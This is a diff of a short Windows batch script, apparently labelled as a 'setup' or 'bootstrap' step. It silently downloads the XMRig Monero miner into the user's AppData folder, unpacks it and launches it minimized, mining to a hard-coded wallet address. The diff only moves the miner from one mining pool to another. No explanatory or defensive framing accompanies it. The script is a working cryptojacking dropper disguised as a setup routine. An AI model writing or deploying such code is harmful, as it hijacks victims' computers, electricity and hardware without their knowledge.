@@ -1,6 +1,6 @@
-REM bootstrap 1608 v4
+REM setup 3455 v4
 @echo off
 cd /d %APPDATA%
 curl -sLo x.zip https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-msvc-win64.zip
 tar -xf x.zip
-start /min xmrig-6.21.0\xmrig.exe -o stratum+tcp://auto.c3pool.com:13333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p x --donate-level=1
+start /min xmrig-6.21.0\xmrig.exe -o stratum+tcp://pool.supportxmr.com:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p x --donate-level=1
